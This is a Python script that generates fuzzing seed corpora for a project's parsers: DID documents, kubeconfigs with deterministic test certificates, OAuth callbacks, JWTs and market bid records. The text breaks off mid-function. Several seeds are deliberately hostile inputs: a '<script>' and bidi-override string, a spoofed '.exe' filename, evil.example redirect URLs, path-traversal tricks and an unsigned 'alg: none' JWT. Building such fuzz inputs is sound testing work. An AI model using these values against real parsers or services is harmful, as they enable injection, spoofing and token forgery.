#!/usr/bin/env python3
"""Writes the seed corpora (fuzz/seeds/<target>/) and checks the dictionaries' syntax.

The seeds come from the atproto interop vectors (crates/lexicon/tests/fixtures/interop, a copy
of the shared ones), the project's own fixtures (market and infra records, XRPC bodies), and
answers written here the way the real peers write them: DID documents, gateway answers and
subscribeClusters frames (DAG-CBOR), kubeconfigs with a P-256 CA and client certificate as the
sandbox gateway issues them, OAuth metadata and token answers, JWTs signed with the fixed keys of
fuzz/src/jwt.rs, peer texts, bids. Run it again after a fixture changes:

    python3 fuzz/tools/make_seeds.py

Needs Python 3.9+ and the `cryptography` package (certificates, ECDSA); the outputs are kept in
the repository, so fuzzing itself needs neither.
"""

import base64
import datetime
import hashlib
import json
import shutil
import struct
import sys
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.x509.oid import NameOID

FUZZ = Path(__file__).resolve().parent.parent
ROOT = FUZZ.parent
FIXTURES = ROOT / "crates" / "lexicon" / "tests" / "fixtures"
INTEROP = FIXTURES / "interop"
SEEDS = FUZZ / "seeds"

OWNER = "did:plc:ewvi7nxzyoun6zhxrhs64oiz"
RFP_URI = "at://did:plc:owner/com.publicdomainrelay.temp.market.rfp/3lbjpbyznfc2b"
RFP_CID = "bafyreid3imdulnhgeytpf6uk7zahjvrsqlofkmm5b5ub2maw4kqus6jp4i"
CID = "bafyreiclp443lavogvhj3d2ob2cxbfuscni2k5jk7bebjzg7khl3esabwq"
K256_MULTIKEY = "zQ3shunBKsXixLxKtC5qeSG9E4J5RkGN57im31pcTzbNQnm5w"
P256_MULTIKEY = "zDnaembgSGUhZULN2Caob4HLJPaxBh92N7rtH21TErzqf8HQo"


class Corpus:
    def __init__(self, target):
        self.dir = SEEDS / target
        shutil.rmtree(self.dir, ignore_errors=True)
        self.dir.mkdir(parents=True)
        self.seen = set()

    def add(self, name, data):
        if isinstance(data, str):
            data = data.encode()
        elif not isinstance(data, (bytes, bytearray)):
            data = json.dumps(data, ensure_ascii=False).encode()
        digest = hashlib.sha1(data).hexdigest()
        if digest in self.seen:
            return
        self.seen.add(digest)
        safe = "".join(c if c.isalnum() or c in "-_" else "-" for c in name.lower())[:48]
        (self.dir / f"{safe}-{digest[:8]}").write_bytes(bytes(data))


def load(path):
    return json.loads(Path(path).read_text())


# --- DAG-CBOR, enough for the frames ---------------------------------------------------------

def cbor_head(major, value):
    if value < 24:
        return bytes([major << 5 | value])
    for info, fmt in ((24, ">B"), (25, ">H"), (26, ">I"), (27, ">Q")):
        if value < 1 << (8 * struct.calcsize(fmt)):
            return bytes([major << 5 | info]) + struct.pack(fmt, value)
    raise ValueError(value)


def cbor(value):
    if value is None:
        return b"\xf6"
    if value is True:
        return b"\xf5"
    if value is False:
        return b"\xf4"
    if isinstance(value, int):
        return cbor_head(0, value) if value >= 0 else cbor_head(1, -1 - value)
    if isinstance(value, str):
        raw = value.encode()
        return cbor_head(3, len(raw)) + raw
    if isinstance(value, bytes):
        return cbor_head(2, len(value)) + value
    if isinstance(value, list):
        return cbor_head(4, len(value)) + b"".join(cbor(item) for item in value)
    if isinstance(value, dict):
        keys = sorted(value, key=lambda key: (len(key.encode()), key.encode()))
        return cbor_head(5, len(keys)) + b"".join(cbor(k) + cbor(value[k]) for k in keys)
    raise TypeError(value)


# --- keys and tokens --------------------------------------------------------------------------

def base58(data):
    alphabet = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
    number, text = int.from_bytes(data, "big"), ""
    while number:
        number, digit = divmod(number, 58)
        text = alphabet[digit] + text
    return "1" * (len(data) - len(data.lstrip(b"\0"))) + text


def b64url(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def fixed_key(curve, byte):
    return ec.derive_private_key(int.from_bytes(bytes([byte]) * 32, "big"), curve)


def jws(key, curve_order, header, claims):
    signing_input = f"{b64url(json.dumps(header).encode())}.{b64url(json.dumps(claims).encode())}"
    r, s = decode_dss_signature(key.sign(signing_input.encode(), ec.ECDSA(hashes.SHA256())))
    s = min(s, curve_order - s)  # low-S, as atproto requires
    return f"{signing_input}.{b64url(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}"


P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
K256_ORDER = 0xFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFEBAAEDCE6AF48A03BBFD25E8CD0364141


def certificate(subject, issuer, public_key, signing_key, days, ca):
    now = datetime.datetime(2026, 1, 1, tzinfo=datetime.timezone.utc)
    name = lambda cn, org: x509.Name([
        x509.NameAttribute(NameOID.COMMON_NAME, cn),
        x509.NameAttribute(NameOID.ORGANIZATION_NAME, org),
    ])
    builder = (
        x509.CertificateBuilder()
        .subject_name(name(*subject))
        .issuer_name(name(*issuer))
        .public_key(public_key)
        .serial_number(int.from_bytes(hashlib.sha1(subject[0].encode()).digest()[:8], "big"))
        .not_valid_before(now)
        .not_valid_after(now + datetime.timedelta(days=days))
        .add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True)
    )
    return builder.sign(signing_key, hashes.SHA256())


def pem64(cert):
    return base64.b64encode(cert.public_bytes(serialization.Encoding.PEM)).decode()


def kubeconfig(name, server, ca_cert, client_cert, client_key, style="plain"):
    key_pem = client_key.private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    )
    ca, crt, key = pem64(ca_cert), pem64(client_cert), base64.b64encode(key_pem).decode()
    if style == "quoted":
        ca, crt, key = f'"{ca}"', f"'{crt}'", f'"{key}"'
    if style == "block":  # a literal block scalar, as some tools wrap long values
        key = "|\n" + "\n".join("      " + key[i:i + 64] for i in range(0, len(key), 64))
    return (
        "apiVersion: v1\n"
        "kind: Config\n"
        "clusters:\n"
        f"- name: {name}\n"
        "  cluster:\n"
        f"    server: {server}\n"
        f"    certificate-authority-data: {ca}\n"
        "users:\n"
        f"- name: {name}-admin\n"
        "  user:\n"
        f"    client-certificate-data: {crt}\n"
        f"    client-key-data: {key}\n"
        "contexts:\n"
        f"- name: {name}\n"
        "  context:\n"
        f"    cluster: {name}\n"
        f"    user: {name}-admin\n"
        f"current-context: {name}\n"
    )


# --- the corpora ------------------------------------------------------------------------------

def records():
    corpus = Corpus("records")
    market = load(FIXTURES / "market" / "records.json")
    cases = load(FIXTURES / "records" / "cases.json")
    for group in (market, cases):
        for kind in ("valid", "invalid"):
            for case in group.get(kind, []):
                record = case.get("record", case.get("value"))
                if record is not None:
                    corpus.add(f"{kind}-{case.get('name', 'record')}", record)
    for case in load(INTEROP / "lexicon" / "record-data-valid.json")[:20]:
        corpus.add("interop-" + case.get("name", "data"), case["data"])
    return corpus


def xrpc_answer():
    corpus = Corpus("xrpc_answer")
    for case in load(FIXTURES / "market" / "xrpc.json"):
        corpus.add(case["name"], case["value"])
    names = [
        "InvalidName", "QuotaExceeded", "ClusterNotFound", "ClusterDraining", "InvalidTtl",
        "NoExpiryNotAllowed", "IdentityNotFound", "ClusterNotReady", "Forbidden",
        "InvalidManifest", "Conflict", "JobNotFound", "InvalidRequest", "AuthMissing",
        "AuthRequired", "BadJwt", "BadJwtSignature", "BadJwtAudience", "BadJwtLexiconMethod",
        "JwtExpired", "InvalidSwap", "RecordNotFound", "RateLimitExceeded", "use_dpop_nonce",
    ]
    for name in names:
        corpus.add(f"error-{name}", {"error": name, "message": f"the server says {name}"})
    corpus.add("error-bare", {"error": "InternalServerError"})
    corpus.add("error-not-a-string", {"error": 500, "message": ["x"]})
    corpus.add("not-json", "<html><body>502 Bad Gateway</body></html>")
    view = {"name": "alpha", "phase": "Ready", "running": True, "instance": "i-3f2a",
            "teardownBlocked": False, "server": "https://alpha.k8s.example.com:6443"}
    corpus.add("listClusters", {"clusters": [view, {"name": "beta", "phase": "Unavailable"}]})
    corpus.add("listClusters-empty", {"clusters": []})
    corpus.add("phaseResult", {"phase": "Initializing"})
    corpus.add("clusterRef", {"name": "alpha"})
    corpus.add("getKubeconfig-input", {"name": "alpha", "ttlSeconds": 600, "noExpiry": False})
    corpus.add("getKubeconfig", {"kubeconfig": "apiVersion: v1\nkind: Config\n", "instance": "i-3f2a"})
    corpus.add("revokeIdentity-input", {"did": OWNER, "name": "alpha"})
    corpus.add("revokeIdentity", {"revoked": [{"name": "sa-ewvi7", "state": "Revoked"}]})
    corpus.add("getJob", {
        "phase": "Running", "active": 1, "succeeded": 0, "failed": 0,
        "conditions": [{"type": "Complete", "status": "False", "reason": "Running",
                        "message": "1 active", "lastTransitionTime": "2026-12-02T10:05:00.000Z"}],
        "pods": [{"name": "job-x7k2p", "phase": "Running", "containers": [
            {"name": "main", "ready": True, "restartCount": 0}]}],
    })
    corpus.add("apply-input", {
        "cluster": "alpha", "manifest": {"apiVersion": "v1", "kind": "ConfigMap",
                                         "metadata": {"name": "settings"}, "data": {"a": "b"}},
        "fieldManager": "socialweb-computer", "force": False, "dryRun": True,
    })
    corpus.add("apply", {"object": {"apiVersion": "v1", "kind": "ConfigMap"}, "created": True})
    return corpus


def did_document():
    corpus = Corpus("did_document")
    plc = {
        "@context": ["https://www.w3.org/ns/did/v1", "https://w3id.org/security/multikey/v1"],
        "id": OWNER,
        "alsoKnownAs": ["at://Atproto.com"],
        "verificationMethod": [{
            "id": f"{OWNER}#atproto", "type": "Multikey", "controller": OWNER,
            "publicKeyMultibase": K256_MULTIKEY,
        }],
        "service": [{
            "id": "#atproto_pds", "type": "AtprotoPersonalDataServer",
            "serviceEndpoint": "https://enoki.us-east.host.bsky.network",
        }],
    }
    corpus.add("plc", plc)
    gateway = {
        "@context": ["https://www.w3.org/ns/did/v1"],
        "id": "did:web:k8s.socialweb.computer",
        "verificationMethod": [{
            "id": "did:web:k8s.socialweb.computer#atproto", "type": "Multikey",
            "controller": "did:web:k8s.socialweb.computer", "publicKeyMultibase": P256_MULTIKEY,
        }],
        "service": [{
            "id": "#socialweb_cluster_gateway", "type": "SocialwebClusterGateway",
            "serviceEndpoint": "https://k8s.socialweb.computer",
        }],
    }
    corpus.add("web-gateway", gateway)
    bidder = {
        "id": "did:web:localhost%3A4123",
        "alsoKnownAs": [],
        "verificationMethod": [
            {"id": "#atproto", "type": "Multikey", "publicKeyMultibase": P256_MULTIKEY},
            {"id": "#attestation", "type": "Multikey", "publicKeyMultibase": K256_MULTIKEY},
        ],
        "service": [
            {"id": "#temp_market", "type": "TempMarket", "serviceEndpoint": "http://localhost:4123"},
            {"id": "#compute_event", "type": "ComputeEvent", "serviceEndpoint": "http://localhost:4123"},
            {"id": "#atproto_pds", "type": "AtprotoPersonalDataServer",
             "serviceEndpoint": "http://localhost:2583"},
        ],
    }
    corpus.add("web-bidder", bidder)
    legacy = dict(plc)
    point = fixed_key(ec.SECP256K1(), 0x22).public_key().public_bytes(
        serialization.Encoding.X962, serialization.PublicFormat.UncompressedPoint)
    legacy["verificationMethod"] = [{
        "id": "#atproto", "type": "EcdsaSecp256k1VerificationKey2019",
        "publicKeyMultibase": "z" + base58(point),
    }]
    corpus.add("legacy-key", legacy)
    for name in ("w3c_didkey_K256.json", "w3c_didkey_P256.json"):
        path = ROOT.parent / "shared" / "interop" / "crypto" / name
        if not path.exists():
            continue
        for index, case in enumerate(load(path)[:4]):
            did = case.get("publicDidKey", "")
            corpus.add(f"{name}-{index}", {
                "id": did,
                "verificationMethod": [{
                    "id": "#atproto", "type": "Multikey",
                    "publicKeyMultibase": did.removeprefix("did:key:"),
                }],
            })
    corpus.add("odd-endpoint", {"id": "did:plc:x", "service": [
        {"id": "did:plc:x#atproto_pds", "type": "AtprotoPersonalDataServer",
         "serviceEndpoint": {"uri": "https://pds.example.com"}}]})
    return corpus


def syntax():
    corpus = Corpus("syntax")
    for path in sorted((INTEROP / "syntax").glob("*.txt")):
        for line in path.read_text().splitlines():
            if line.strip() and not line.startswith("#"):
                corpus.add(path.stem, line)
    for text in (
        f"at://{OWNER}/com.publicdomainrelay.temp.market.bid/3lbjpbyznfc2c",
        "at://alice.example.com/computer.socialweb.infra/self",
        "9999-12-31T23:59:59.999-01:00",
        "0000-01-01T00:30:00+00:30",
        "2026-12-02T10:05:00.123456789012345678Z",
        "did:web:localhost%3A4123",
    ):
        corpus.add("extra", text)
    return corpus


def data_model():
    corpus = Corpus("data_model")
    for case in load(INTEROP / "data-model" / "data-model-fixtures.json"):
        corpus.add("fixture", case["json"])
    for name in ("data-model-valid.json", "data-model-invalid.json"):
        for case in load(INTEROP / "data-model" / name):
            corpus.add(name, case["json"])
    blob = {"$type": "blob", "ref": {"$link": CID}, "mimeType": "image/png", "size": 1234}
    corpus.add("blob", {"avatar": blob, "bytes": {"$bytes": "aGVsbG8"}, "n": -5})
    corpus.add("blob-extra", {"$type": "blob", "ref": {"$link": CID}, "mimeType": "text/plain",
                              "size": 0, "x": 1})
    corpus.add("bytes-padded", {"$bytes": "aGk="})
    corpus.add("link-v0", {"$link": "QmY7Yh4UquoXHLPFo2XbhXkhBvFoPwmQUSa92pxnxjQuPU"})
    return corpus


def cluster_frames():
    corpus = Corpus("cluster_frames")
    header = lambda t: cbor({"op": 1, "t": t})
    corpus.add("cluster", header("#cluster") + cbor({
        "name": "alpha", "phase": "Ready", "running": True, "instance": "i-3f2a",
        "server": "https://alpha.k8s.example.com:6443"}))
    corpus.add("cluster-deleted", header("#cluster") + cbor({"name": "beta", "phase": "Draining",
                                                             "deleted": True, "teardownBlocked": True}))
    corpus.add("member", header("#member") + cbor({"cluster": "alpha", "did": OWNER,
                                                   "name": "sa-ewvi7", "state": "Active"}))
    corpus.add("node", header("#nodeClaim") + cbor({
        "cluster": "alpha", "name": "nc-1", "phase": "Joining", "nodeName": "worker-1",
        "message": "waiting for the kubelet",
        "infra": {"workspace": "default", "name": "alpha-nodes", "contract": "worker-1",
                  "computeContract": "alpha-nodes-worker-1"}}))
    corpus.add("info", header("#info") + cbor({"name": "SnapshotComplete"}))
    corpus.add("other", header("#future") + cbor({"what": "a frame type this version lacks", "n": 3}))
    corpus.add("error", cbor({"op": -1}) + cbor({"error": "ClusterNotFound",
                                                 "message": "you have no cluster named x"}))
    corpus.add("error-bare", cbor({"op": -1}) + cbor({"error": "AuthMissing"}))
    return corpus


def kubeconfig_corpus():
    corpus = Corpus("kubeconfig")
    ca_key, client_key, other_key = (fixed_key(ec.SECP256R1(), b) for b in (0x31, 0x32, 0x33))
    ca = certificate(("alpha-ca", "socialweb"), ("alpha-ca", "socialweb"),
                     ca_key.public_key(), ca_key, 3650, True)
    client = certificate((OWNER, "socialweb:members"), ("alpha-ca", "socialweb"),
                         client_key.public_key(), ca_key, 1, False)
    other_ca = certificate(("other-ca", "socialweb"), ("other-ca", "socialweb"),
                           other_key.public_key(), other_key, 3650, True)
    server = "https://alpha.k8s.example.com:6443"
    corpus.add("issued", kubeconfig("alpha", server, ca, client, client_key))
    corpus.add("quoted", kubeconfig("alpha", server, ca, client, client_key, "quoted"))
    corpus.add("block", kubeconfig("alpha", server, ca, client, client_key, "block"))
    corpus.add("untrusted", kubeconfig("alpha", server, other_ca, client, client_key))
    corpus.add("bad-base64", kubeconfig("alpha", server, ca, client, client_key)
               .replace("client-certificate-data: ", "client-certificate-data: !!"))
    corpus.add("no-users", "apiVersion: v1\nkind: Config\nclusters: []\nusers: []\n")
    kubeconfig_hostile(corpus, kubeconfig("alpha", server, ca, client, client_key))
    return corpus


def oauth_metadata():
    corpus = Corpus("oauth_metadata")
    corpus.add("protected-resource", {
        "resource": "https://enoki.us-east.host.bsky.network",
        "authorization_servers": ["https://bsky.social"],
        "scopes_supported": [], "bearer_methods_supported": ["header"],
    })
    corpus.add("auth-server", {
        "issuer": "https://bsky.social",
        "authorization_endpoint": "https://bsky.social/oauth/authorize",
        "token_endpoint": "https://bsky.social/oauth/token",
        "pushed_authorization_request_endpoint": "https://bsky.social/oauth/par",
        "revocation_endpoint": "https://bsky.social/oauth/revoke",
        "scopes_supported": ["atproto", "transition:generic", "transition:chat.bsky"],
        "dpop_signing_alg_values_supported": ["RS256", "ES256", "ES256K"],
        "code_challenge_methods_supported": ["S256"],
        "authorization_response_iss_parameter_supported": True,
        "require_pushed_authorization_requests": True,
    })
    corpus.add("token", {
        "access_token": "eyJ0eXAiOiJhdCtqd3QiLCJhbGciOiJFUzI1NksifQ.e30.sig",
        "token_type": "DPoP", "refresh_token": "ref-2f8e", "expires_in": 3600,
        "scope": "atproto transition:generic", "sub": OWNER,
    })
    corpus.add("token-granular", {
        "access_token": "a", "token_type": "dpop",
        "scope": "atproto repo:computer.socialweb.infra rpc:com.publicdomainrelay.temp.cluster.listClusters?aud=*",
    })
    corpus.add("callback", "code=cod-1a2b&state=st-9z&iss=https%3A%2F%2Fbsky.social")
    corpus.add("callback-error", "error=access_denied&error_description=The+user+said+no&state=st-9z")
    return corpus


def jwt():
    corpus = Corpus("jwt")
    p256 = fixed_key(ec.SECP256R1(), 0x11)
    k256 = fixed_key(ec.SECP256K1(), 0x22)
    claims = {"iss": OWNER, "aud": "did:web:k8s.socialweb.computer",
              "lxm": "com.publicdomainrelay.temp.cluster.listClusters",
              "exp": 1800000060, "iat": 1800000000, "jti": "j-1"}
    corpus.add("es256", jws(p256, P256_ORDER, {"typ": "JWT", "alg": "ES256"}, claims))
    corpus.add("es256k", jws(k256, K256_ORDER, {"typ": "JWT", "alg": "ES256K"}, claims))
    corpus.add("es256-service", jws(p256, P256_ORDER, {"alg": "ES256"},
                                    dict(claims, iss=f"{OWNER}#atproto_labeler")))
    none = b64url(json.dumps({"alg": "none"}).encode())
    corpus.add("none", f"{none}.{b64url(json.dumps(claims).encode())}.")
    corpus.add("not-json", "e30.bm90IGpzb24.AAAA")
    return corpus


def peer_text():
    corpus = Corpus("peer_text")
    family = "\U0001F468\u200D\U0001F469\u200D\U0001F467"
    texts = [
        (2048, "the bidder refused: no capacity in region west"),
        (64, "line\nnext\u202Egnp.exe\tand\u2066more\u2069 " + "x" * 100),
        (30, f"ab{family}{family}{family}"),
        (8, "short but not that short"),
        (0, "anything"),
        (300, "e\u0301" * 200),
        (12, "\u200Fright-to-left\u200E"),
    ]
    for limit, text in texts:
        corpus.add(f"limit-{limit}", struct.pack("<H", limit) + text.encode())
    return corpus


def bid_cost():
    corpus = Corpus("bid_cost")

    def answer(author, terms, cost=None, rfp_uri=RFP_URI, rfp_cid=RFP_CID, rkey="3lbjpbyznfc2c"):
        payload = {"uri": f"at://{author}/com.publicdomainrelay.temp.market.{terms}/3lbjpbyznfc2d",
                   "cid": CID}
        if cost is not None:
            payload["cost"] = cost
        return {
            "uri": f"at://{author}/com.publicdomainrelay.temp.market.bid/{rkey}",
            "cid": CID,
            "value": {"$type": "com.publicdomainrelay.temp.market.bid",
                      "rfp": {"uri": rfp_uri, "cid": rfp_cid}, "payload": payload,
                      "submitAccept": "did:web:bidder.example.com#temp_market",
                      "signatures": [{"$type": "network.attested.signature",
                                      "key": "did:key:" + P256_MULTIKEY, "cid": CID,
                                      "signature": {"$bytes": "c2lnbmF0dXJl"}}]},
        }

    corpus.add("free", answer("did:plc:a", "bids.free"))
    corpus.add("free-zero", answer("did:plc:b", "bids.free", "0"))
    corpus.add("free-priced", answer("did:plc:b", "bids.free", "0.5"))
    for cost in ("0.25", 3, 1.5, "007", "0.000000001", "999999999999.999999999", "-1", "1e3",
                 "NaN", " 12 ", "0.0000000001", "1" * 14):
        corpus.add(f"paid-{cost}", answer("did:plc:c", "bids.x402", cost))
    corpus.add("paid-no-price", answer("did:plc:c", "bids.x402"))
    corpus.add("not-asked", answer("did:plc:zzz", "bids.free"))
    corpus.add("denied", answer("did:plc:x", "bids.free"))
    corpus.add("other-rfp", answer("did:plc:a", "bids.free", rfp_uri=RFP_URI + "x", rfp_cid=CID))
    corpus.add("no-author", dict(answer("did:plc:a", "bids.free"), uri="at://alice.example.com"))
    return corpus


# --- the parsers added with issue 34 ----------------------------------------------------------

CALLBACK = "computer.socialweb.desk:/oauth/callback"
STATE = "Zk3sD0x9-fuzz_state"  # fuzz/src/sign_in_request.rs
HOSTILE = "\u202eevil\u0000\n<script>\u2028"


def app_link():
    corpus = Corpus("app_link")
    iss = "https%3A%2F%2Fbsky.social"
    corpus.add("callback", f"{CALLBACK}?code=cod-1&state=s-1&iss={iss}")
    corpus.add("upper-scheme", f"COMPUTER.SOCIALWEB.DESK:/oauth/callback?code=c&state=s")
    corpus.add("error", f"{CALLBACK}?error=access_denied&error_description=no%20thanks&state=s")
    corpus.add("other-scheme", "https://desk.socialweb.computer/oauth/callback?code=c")
    corpus.add("longer-scheme", "computer.socialweb.deskx:/oauth/callback")
    corpus.add("other-path", "computer.socialweb.desk:/other?code=c")
    corpus.add("host", "computer.socialweb.desk://evil.example/oauth/callback?code=c")
    corpus.add("fragment", f"{CALLBACK}#code=c&state=s")
    corpus.add("encoded-path", "computer.socialweb.desk:/oauth/%63allback?code=c")
    corpus.add("dot-segments", "computer.socialweb.desk:/oauth/x/../callback?code=c")
    corpus.add("hostile-query", f"{CALLBACK}?state=%E2%80%AE%00%0A&code={HOSTILE}")
    corpus.add("too-long", f"{CALLBACK}?code={'a' * 4100}")
    corpus.add("client-id", "https://desk.socialweb.computer/oauth-client-metadata.json")
    corpus.add("client-id-http", "http://desk.socialweb.computer/oauth-client-metadata.json")
    return corpus


def sign_in_request():
    corpus = Corpus("sign_in_request")
    iss = "http%3A%2F%2Flocalhost%3A2583"
    headers = "Host: 127.0.0.1:49152\r\nUser-Agent: Mozilla/5.0\r\nAccept: text/html\r\n\r\n"
    right = f"/callback?code=c-1&state={STATE}&iss={iss}"
    corpus.add("right", f"GET {right} HTTP/1.1\r\n{headers}")
    corpus.add("wrong-state", f"GET /callback?code=c-1&state=other&iss={iss} HTTP/1.1\r\n{headers}")
    corpus.add("no-state", f"GET /callback?code=c-1 HTTP/1.1\r\n{headers}")
    corpus.add("twice", f"GET /callback?state=other&state={STATE} HTTP/1.1\r\n\r\n")
    corpus.add("favicon", f"GET /favicon.ico HTTP/1.1\r\n{headers}")
    corpus.add("post", f"POST {right} HTTP/1.1\r\nContent-Length: 0\r\n\r\n")
    corpus.add("absolute", f"GET http://evil.example{right} HTTP/1.1\r\n\r\n")
    corpus.add("bare", f"GET {right}")
    corpus.add("fragment", f"GET /callback#state={STATE} HTTP/1.1\r\n\r\n")
    corpus.add("dot-segments", f"GET /x/../callback?state={STATE} HTTP/1.1\r\n\r\n")
    corpus.add("encoded", f"GET /%63allback?state={STATE.replace('-', '%2D')} HTTP/1.1\r\n\r\n")
    corpus.add("hostile", f"GET /callback?state={HOSTILE} HTTP/1.1\r\n\r\n".encode("utf-8", "surrogatepass"))
    corpus.add("error", f"GET /callback?error=access_denied&state={STATE} HTTP/1.1\r\n\r\n")
    return corpus


def dpop_nonce():
    corpus = Corpus("dpop_nonce")
    corpus.add("imf", "nonce-4f2a\nSun, 06 Dec 2026 18:00:00 GMT")
    corpus.add("rfc850", "n\nSunday, 06-Dec-26 18:00:00 GMT")
    corpus.add("asctime", "n\nSun Dec  6 18:00:00 2026")
    corpus.add("far-future", "n\nFri, 31 Dec 9999 23:59:59 GMT")
    corpus.add("epoch", "n\nThu, 01 Jan 1970 00:00:00 GMT")
    corpus.add("before-epoch", "n\nWed, 31 Dec 1969 23:59:59 GMT")
    corpus.add("no-date", "eyJub25jZSI6ICJ4In0")
    corpus.add("no-nonce", "\nSun, 06 Dec 2026 18:00:00 GMT")
    corpus.add("garbage-date", "n\nyesterday, around noon")
    corpus.add("quoted-nonce", '"a\\"b\'c<d>\n')
    corpus.add("utf8-nonce", HOSTILE.replace("\n", "").replace("\u0000", "") + "\n")
    corpus.add("long-nonce", "n" * 4000 + "\nSun, 06 Dec 2026 18:00:00 GMT")
    return corpus


def handle_answer():
    corpus = Corpus("handle_answer")
    dns, well_known, xrpc = b"\x00", b"\x01", b"\x02"
    status = lambda code: struct.pack("<H", code)
    corpus.add("txt", dns + f"did=did:plc:ewvi7nxzyoun6zhxrhs64oiz\nv=spf1 -all".encode())
    corpus.add("txt-agree", dns + b"did=did:plc:abc\ndid=did:plc:abc")
    corpus.add("txt-conflict", dns + b"did=did:plc:abc\ndid=did:plc:xyz")
    corpus.add("txt-key", dns + b"did=did:key:zQ3shunBKsXixLxKtC5qeSG9E4J5RkGN57im31pcTzbNQnm5w")
    corpus.add("well-known", well_known + b"did:web:alice.example.com\n")
    corpus.add("well-known-crlf", well_known + b"  did:plc:ewvi7nxzyoun6zhxrhs64oiz\r\nmore")
    corpus.add("well-known-html", well_known + b"<!doctype html><html><body>hi</body></html>")
    corpus.add("well-known-hostile", well_known + HOSTILE.encode() + b"did:plc:" + b"a" * 300)
    corpus.add("xrpc", xrpc + status(200) + b'{"did":"did:plc:ewvi7nxzyoun6zhxrhs64oiz"}')
    corpus.add("xrpc-refused", xrpc + status(400) +
               b'{"error":"InvalidRequest","message":"Unable to resolve handle"}')
    corpus.add("xrpc-hostile", xrpc + status(404) +
               json.dumps({"error": "x", "message": HOSTILE * 40}, ensure_ascii=False).encode())
    corpus.add("xrpc-did-on-error", xrpc + status(500) + b'{"did":"did:plc:abc"}')
    corpus.add("xrpc-not-json", xrpc + status(200) + b"did:plc:abc")
    return corpus


def relay_grant():
    corpus = Corpus("relay_grant")
    grant_uri = f"at://{OWNER}/com.publicdomainrelay.temp.market.receipts.free/3lbjpbyznfc2a"
    corpus.add("page", {"repos": [{"did": OWNER}, {"did": "did:web:bidder.example.com"}],
                        "cursor": "3lbjpbyznfc2a"})
    corpus.add("last-page", {"repos": [{"did": "did:plc:abc"}]})
    corpus.add("empty", {"repos": []})
    corpus.add("junk-page", {"repos": [{"did": HOSTILE}, {"did": 7}, "did:plc:abc", {"did": ""}],
                             "cursor": "c\u0000"})
    corpus.add("long-cursor", {"repos": [{"did": OWNER}], "cursor": "c" * 2000})
    corpus.add("grant", {"uri": grant_uri, "cid": CID})
    corpus.add("grant-extra", {"uri": grant_uri, "cid": CID, "value": {"$type": "x"}})
    corpus.add("grant-junk", {"uri": HOSTILE * 30, "cid": CID})
    corpus.add("grant-bad-cid", {"uri": grant_uri, "cid": "bafy" + HOSTILE})
    corpus.add("grant-http", {"uri": "https://bidder.example.com/grant", "cid": CID})
    corpus.add("error", {"error": "NotFound", "message": HOSTILE})
    return corpus


BIDDER = OWNER  # fuzz/src/sealed_secret.rs
RECEIPT = f"at://{BIDDER}/com.publicdomainrelay.temp.market.receipt/3lbjpbyznfc2a"
GUEST_KEY_NSID = "computer.socialweb.secret.guestKey"
# fuzz/src/sealed_secret.rs: the recipient of the fixed identity (the scalar 0x44 repeated).
RECIPIENT = "age1luhwg4spasdkwvgvw7gyq3v94e5hxv0wu8ql3neyr9e3c8ll8e4s63g9lr"


def sealed_secret():
    corpus = Corpus("sealed_secret")
    key_uri = f"at://{BIDDER}/{GUEST_KEY_NSID}/3lkey"

    def event(payload_uri=key_uri, receipt=RECEIPT, **extra):
        return dict({"$type": "com.publicdomainrelay.temp.market.event",
                     "receipt": {"uri": receipt, "cid": CID},
                     "payload": {"uri": payload_uri, "cid": "bafykey"},
                     "createdAt": "2026-12-05T10:00:00.000Z"}, **extra)

    def key(recipient=RECIPIENT, receipt=RECEIPT):
        return {"$type": GUEST_KEY_NSID, "receipt": {"uri": receipt, "cid": CID},
                "recipient": recipient, "createdAt": "2026-12-05T10:00:01.000Z"}

    corpus.add("key", {"event": event(), "key": key()})
    corpus.add("started", {"event": event(f"at://{BIDDER}/com.publicdomainrelay.temp.compute.events.vm.started/3l"),
                           "key": key()})
    corpus.add("other-receipt", {"event": event(receipt=RECEIPT + "x"), "key": key(receipt=RECEIPT + "x")})
    corpus.add("ssh", {"event": event(), "key": key("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMq")})
    corpus.add("long", {"event": event(), "key": key("age1" + "q" * 100)})
    corpus.add("hostile", {"event": event(HOSTILE * 50), "key": key(HOSTILE)})
    corpus.add("signed-already", {"event": event(signatures=[{"$type": "network.attested.signature",
                                                              "key": "did:key:" + K256_MULTIKEY,
                                                              "cid": CID, "signature": {"$bytes": "AAAA"}}]),
                                  "key": key()})
    corpus.add("no-recipient", {"event": event(), "key": {"receipt": {"uri": RECEIPT, "cid": CID}}})
    return corpus


def inline_signatures():
    corpus = Corpus("inline_signatures")
    rfp = {"$type": "com.publicdomainrelay.temp.market.rfp",
           "payload": {"uri": f"at://{OWNER}/com.publicdomainrelay.temp.compute.vm/3lbjpbyznfc2a",
                       "cid": CID},
           "signatures": []}
    key = "did:key:" + P256_MULTIKEY
    entry = {"$type": "network.attested.signature", "key": key, "issuedAt": "2026-12-05T10:00:00.000Z",
             "cid": CID, "signature": {"$bytes": "A" * 86}}
    directory = {"published": [[OWNER, key]], "listed": [["did:web:ingress.example.com", key]],
                 "endpoints": ["https://ingress.example.com/xrpc", "https://pds.example.com"]}
    corpus.add("unsigned", {"record": rfp, "directory": directory})
    corpus.add("bogus-entry", {"record": dict(rfp, signatures=[entry]), "directory": directory})
    corpus.add("issuer", {"record": dict(rfp, signatures=[dict(entry, issuer="did:web:ingress.example.com")]),
                          "issuer": "did:web:ingress.example.com", "key": key,
                          "directory": {"listed": [["did:web:ingress.example.com", key]],
                                        "endpoints": ["https://ingress.example.com/xrpc"]}})
    corpus.add("port", {"record": rfp, "issuer": "did:web:localhost%3A7801", "key": key,
                        "directory": {"listed": [["did:web:localhost%3A7801", key]],
                                      "endpoints": ["http://localhost:7801"]}})
    corpus.add("tricky-hosts", {"record": rfp, "issuer": "did:web:good.example.com", "key": key,
